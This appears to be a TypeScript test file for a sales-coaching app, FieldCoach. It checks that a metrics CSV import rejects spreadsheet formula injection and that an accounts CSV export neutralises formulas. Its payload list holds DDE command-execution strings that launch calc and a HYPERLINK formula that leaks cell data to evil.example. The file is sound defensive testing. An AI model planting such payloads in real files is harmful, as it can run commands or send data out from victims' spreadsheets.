/*
 * Spreadsheet formula injection. Through the metrics import (POST /api/reps/:email/metrics/import), a
 * cell that a spreadsheet would run (=, +, -, @, or one of them behind a tab or carriage return, DDE
 * payloads) never gets in: the import reads dates and plain non-negative numbers only and refuses the
 * whole file otherwise, so the figures come out again, in the plan and in a person's data export, as
 * numbers and dates with nothing a spreadsheet could evaluate. Customer account names are free text and
 * do get in; FieldCoach's one CSV export, the Settings page's "Export as CSV", is checked in Chromium: the
 * downloaded file hands a spreadsheet no formula (each such name has a quote in front), and pasted back
 * into the page's import it gives the same accounts.
 */

import { readFile } from "node:fs/promises";
import { describe, expect, it } from "vitest";
import type { CustomerAccount, TenantSettingsResponse } from "../../src/api/settings.ts";
import { parseAccountsCsv } from "../../src/teams/pages/settings/accounts-csv.ts";
import { csvCells, SPREADSHEET_EVALUATES } from "../../src/ui/csv/csv-cells-test-support.ts";
import { apiAs } from "../browser/support/api-as.ts";
import { openPage } from "../browser/support/browser.ts";
import { demoInChromium } from "../browser/support/demo-in-chromium.ts";
import { demoPeople, personNamed } from "../browser/support/demo-people.ts";
import { signInAs } from "../browser/support/sign-in.ts";
import { hostileWorldOfFile } from "./support/hostile-world.ts";

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "=1+1",
  "+1+1",
  "-1+1",
  "-5",
  "+5",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  "=1+1;12",
  "12=1+1",
  "0x0C",
  "1e3",
] as const;

/** Quotes a field as RFC 4180 says, so that commas, quotes and line breaks stay inside it. */
const field = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

/** Where in the file a formula can stand. */
const PLACES: readonly (readonly [string, (formula: string) => string])[] = [
  ["a metric column's name", (formula) => `date,pipeline,${field(formula)}\n2026-03-01,1,2\n`],
  ["the date", (formula) => `date,pipeline\n${field(formula)},1\n`],
  ["a count", (formula) => `date,pipeline,proposals\n2026-03-01,3,${field(formula)}\n`],
  ["a money value", (formula) => `date,closed-value\n2026-03-01,${field(formula)}\n`],
  [
    "a quoted cell of the second row",
    (formula) => `date,pipeline\n2026-03-01,4\n2026-03-02,"${formula.replaceAll('"', '""')}"\n`,
  ],
];

/** Text a spreadsheet would evaluate when it opens a cell holding it. */
const EVALUATED = /^[=+\-@\t\r]/;

const hostile = hostileWorldOfFile();

const importAs = (csv: string) =>
  hostile().as(
    hostile().org,
    hostile().org.mia,
    "POST",
    `/api/reps/${hostile().org.ana.mail}/metrics/import`,
    {
      body: csv,
      contentType: "text/csv",
    },
  );

/** Every string anywhere in a JSON value. */
function stringsIn(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (Array.isArray(value)) return value.flatMap(stringsIn);
  if (typeof value === "object" && value !== null) return Object.values(value).flatMap(stringsIn);
  return [];
}

describe("formula injection through the metrics import", () => {
  it.each(
    PLACES.flatMap(([place, build]) => FORMULAS.map((formula) => [place, formula, build(formula)] as const)),
  )("refuses the whole file with a formula in %s: %j", async (_place, _formula, csv) => {
    const before = await hostile().fingerprint();
    const response = await importAs(csv);
    expect(response.statusCode).toBe(422);
    expect(response.headers["content-type"]).toMatch(/^application\/json/);
    expect(response.json()).toMatchObject({ code: "csv_invalid", problems: [expect.any(Object)] });
    expect(await hostile().fingerprint()).toEqual(before);
  });

  it("reads padded numbers as numbers, and they leave FieldCoach as numbers and dates only", async () => {
    const { org, world } = hostile();
    const imported = await importAs('date,pipeline,closed-value\n2026-03-03,"\t15"," 41000.5\r"\n');
    expect(imported.statusCode).toBe(200);
    expect(imported.json()).toMatchObject({ values: 2, changed: 2 });

    const plan = (await hostile().as(org, org.mia, "GET", `/api/reps/${org.ana.mail}/plan`)).json();
    expect(plan.metrics).toEqual(
      expect.arrayContaining([
        { metric: "pipeline", asOf: "2026-03-03", value: 15 },
        { metric: "closed-value", asOf: "2026-03-03", value: 41000.5 },
      ]),
    );
    const changes = plan.timeline.filter((entry: { kind: string }) => entry.kind === "metric");
    expect(changes.length).toBeGreaterThan(0);
    for (const entry of changes) {
      expect(typeof entry.change.value).toBe("number");
      expect(stringsIn(entry).filter((text) => EVALUATED.test(text))).toEqual([]);
    }

    const exported = await world.call(org.ida, "GET", `/api/admin/people/${org.ana.mail}/export`, {
      admin: true,
      tenantId: org.tenant.tenantId,
    });
    expect(exported.headers["content-type"]).toMatch(/^application\/json/);
    const { tables } = exported.json();
    const metricRows = [...tables.rep_metrics, ...tables.rep_metric_history];
    expect(metricRows.length).toBeGreaterThan(0);
    for (const row of metricRows) {
      expect(typeof row.value).toBe("number");
      expect(stringsIn(row).filter((text) => EVALUATED.test(text))).toEqual([]);
    }
  });
});

describe("formula injection through customer account names, exported from the Settings page", () => {
  const DEMO_NOW = Date.parse("2026-03-03T14:00:00Z");
  const ADMINISTRATOR = "Renata Okafor";
  const demo = demoInChromium(["tab"], DEMO_NOW);

  it("downloads a file whose every formula is text, and which the import reads back as the same accounts", async () => {
    const { baseUrl } = demo.server;
    const administrator = personNamed(await demoPeople(baseUrl), ADMINISTRATOR);
    const api = await apiAs(baseUrl, administrator.objectId, { admin: true });
    const current = await api.call<TenantSettingsResponse>("GET", "/api/settings/tenant");
    const accounts: CustomerAccount[] = [
      ...FORMULAS.map((formula, index) => ({
        domain: `formula-${index}.example`,
        name: formula,
        openPipeline: index * 1_000,
      })),
      { domain: "-calc.example", name: "Dash first", openPipeline: 1e21 },
      { domain: "muller.example", name: "Müller & Söhne, 株式会社", openPipeline: 2_500_000.5 },
    ];
    const saved = await api.call<TenantSettingsResponse>("PUT", "/api/settings/tenant", {
      ifMatch: current.version,
      body: { settings: { ...current.settings, accounts } },
    });

    const { context, page } = await openPage(demo.browser, { baseUrl, now: DEMO_NOW });
    try {
      await signInAs(page, baseUrl, ADMINISTRATOR, { admin: true });
      await page.evaluate(() => {
        window.location.hash = "#/settings";
      });
      const exportButton = page.getByRole("button", { name: "Export as CSV" });
      await exportButton.waitFor();
      const [download] = await Promise.all([page.waitForEvent("download"), exportButton.click()]);
      expect(download.suggestedFilename()).toBe("fieldcoach-accounts.csv");
      const csv = await readFile(await download.path(), "utf8");

      expect(csv.startsWith("\uFEFFdomain,name,openPipeline\r\n")).toBe(true);
      const [header, ...records] = csvCells(csv);
      expect(header).toEqual(["domain", "name", "openPipeline"]);
      expect(records.map(([domain]) => domain)).toEqual(
        saved.settings.accounts.map(({ domain }) => (EVALUATED.test(domain) ? `'${domain}` : domain)),
      );
      expect(records.map(([, name]) => name)).toEqual(
        saved.settings.accounts.map(({ name }) => (EVALUATED.test(name) ? `'${name}` : name)),
      );
      expect(records.flat().filter((cell) => SPREADSHEET_EVALUATES.test(cell))).toEqual([]);
      expect(records.map(([, , openPipeline]) => openPipeline).slice(-2)).toEqual([
        "1000000000000000000000",
        "2500000.5",
      ]);
      expect(parseAccountsCsv(csv)).toEqual({ ok: true, accounts: saved.settings.accounts });

      await page.getByRole("textbox", { name: "Paste accounts as CSV" }).fill(csv);
      await page.getByRole("button", { name: "Import accounts" }).click();
      await page
        .getByRole("status")
        .filter({ hasText: `${accounts.length} accounts imported` })
        .waitFor();
      const names = page.getByRole("textbox", { name: /^Name of / });
      expect(
        await names.evaluateAll((inputs) => inputs.map((input) => (input as HTMLInputElement).value)),
      ).toEqual(saved.settings.accounts.map(({ name }) => name));
      expect(await page.getByRole("button", { name: "Save tenant settings" }).isDisabled()).toBe(true);
    } finally {
      await context.close();
    }
  }, 300_000);
});
